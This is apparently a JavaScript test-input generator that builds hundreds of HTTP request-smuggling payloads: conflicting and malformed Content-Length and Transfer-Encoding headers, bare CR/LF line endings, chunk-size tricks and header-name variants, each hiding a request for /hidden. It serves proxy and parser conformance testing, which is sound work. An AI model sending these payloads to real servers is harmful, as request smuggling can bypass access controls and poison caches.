// What a stranger may send to a proxy in order to be misunderstood behind it (RFC 9112 §11.2).
// Every document hides a request for /hidden where somebody who frames its body in another way would find it.
const hidden = 'GET /hidden HTTP/1.1\r\nHost: a\r\n\r\n';
const size = hidden.length.toString(16);

const lengths = ['', 'Content-Length: #', 'content-length:#', 'Content-Length: \t# ', 'Content-Length: 0#', 'Content-Length: +#', 'Content-Length: 0x#',
  'Content-Length: #, #', 'Content-Length: #\r\nContent-Length: #', 'Content-Length: #\r\nContent-Length: 0', 'Content-Length : #', 'Content-Length:'];

const codings = ['', ...[':chunked', ': CHUNKED', ':\t chunked \t', ': xchunked', ': chunkedx', ': x chunked', ': chunked x', ': "chunked"', ": 'chunked'", ': chunked;q=1',
  ': chunked,', ': ,chunked', ': chunked, chunked', ': chunked, identity', ': identity, chunked', ': gzip, chunked', ': identity',
  ': chunked\r\nTransfer-Encoding: identity', ': identity\r\nTransfer-Encoding: chunked', ' : chunked', ':\r\n chunked', ': \x0bchunked', ': chunked\0', ':']
  .map((value) => `Transfer-Encoding${value}`)];

const lineEnds = ['\r\n', '\n', '\r', '\n\r', '\r\r\n', '\r\n '];

/** A body and the length that is said of it: either chunks or the length end before the hidden request. */
const traps = [
  { body: `0\r\n\r\n${hidden}`, length: 5 + hidden.length },
  { body: `${size}\r\n${hidden}\r\n0\r\n\r\n`, length: size.length + 2 },
];

function* grid() {
  for (const { body, length } of traps)
    for (const said of lengths)
      for (const coding of codings)
        for (const end of lineEnds) {
          const fields = [said.replaceAll('#', length), coding].filter(Boolean).map((field) => field + end);
          yield `POST /echo HTTP/1.1\r\nHost: a${end}${fields.join('')}\r\n${body}`;
        }
}

function* tricks() {
  const post = (fields, body) => `POST /echo HTTP/1.1\r\nHost: a\r\n${fields}\r\n\r\n${body}`;
  const whole = `Content-Length: ${hidden.length}`;
  const chunked = 'Transfer-Encoding: chunked';
  const inOneChunk = `${size}\r\n${hidden}\r\n0\r\n\r\n`;
  const afterChunks = `0\r\n\r\n${hidden}`;
  const beyondChunks = `Content-Length: ${afterChunks.length}`;
  for (const method of ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'TRACE', 'PUT', 'BREW', 'CONNECT']) {
    yield `${method} /echo HTTP/1.1\r\nHost: a\r\n${whole}\r\n\r\n${hidden}`;
    yield `${method} /echo HTTP/1.1\r\nHost: a\r\n${chunked}\r\n\r\n${inOneChunk}`;
    yield `${method} /echo HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n${whole}\r\n\r\n${hidden}`;
  }
  for (const name of ['Transfer_Encoding', 'Transfer-Encoding\t', ' Transfer-Encoding', 'X: y\rTransfer-Encoding', 'X: y\nTransfer-Encoding', 'X\0Transfer-Encoding'])
    for (const fields of [[beyondChunks, `${name}: chunked`], [`${name}: chunked`, beyondChunks]]) yield post(fields.join('\r\n'), afterChunks);
  for (const name of ['Content_Length', 'Content-Length\t', 'X: y\rContent-Length', 'X: y\nContent-Length'])
    for (const fields of [[whole, `${name}: 0`], [`${name}: 0`, whole]]) yield post(fields.join('\r\n'), hidden);
  for (const named of ['Content-Length', 'Transfer-Encoding', 'close, Content-Length']) {
    yield post(`Connection: ${named}\r\n${whole}`, hidden);
    yield post(`Connection: ${named}\r\n${chunked}`, inOneChunk);
  }
  for (const awaited of ['100-continue', '100-continue, 100-continue', 'y 100-continue']) yield post(`Expect: ${awaited}\r\n${whole}`, hidden);
  for (const end of [';', ';a=b\n', ';\nxx', ' ', ';a="', '\n', 'g', ';a\0']) {
    yield post(chunked, `${size}${end}\r\n${hidden}\r\n0\r\n\r\n`);
    yield post(chunked, `2${end}\r\nxx\r\n${afterChunks}`);
  }
  for (const digits of ['+', '-', '0x', ' ', '0'.repeat(20), `1${'0'.repeat(16)}`]) yield post(chunked, digits + inOneChunk);
  for (const last of ['0;a\n\r\n', '0\n\n', '0\r\n\n', '0\r\nX: y\n\r\n', '0\r\nContent-Length: 5\r\n\r\n', `0\r\n${hidden}`, '0 \r\n\r\n', '5\r\nhello0\r\n\r\n', '5\r\nhelloXX0\r\n\r\n'])
    yield post(chunked, last + hidden);
  for (const version of ['99', '', '13\r\nSec-WebSocket-Version: 8'])
    yield `GET /echo HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: ${version}\r\n${whole}\r\n\r\n${hidden}`;
}

export const documents = [...grid(), ...tricks()];
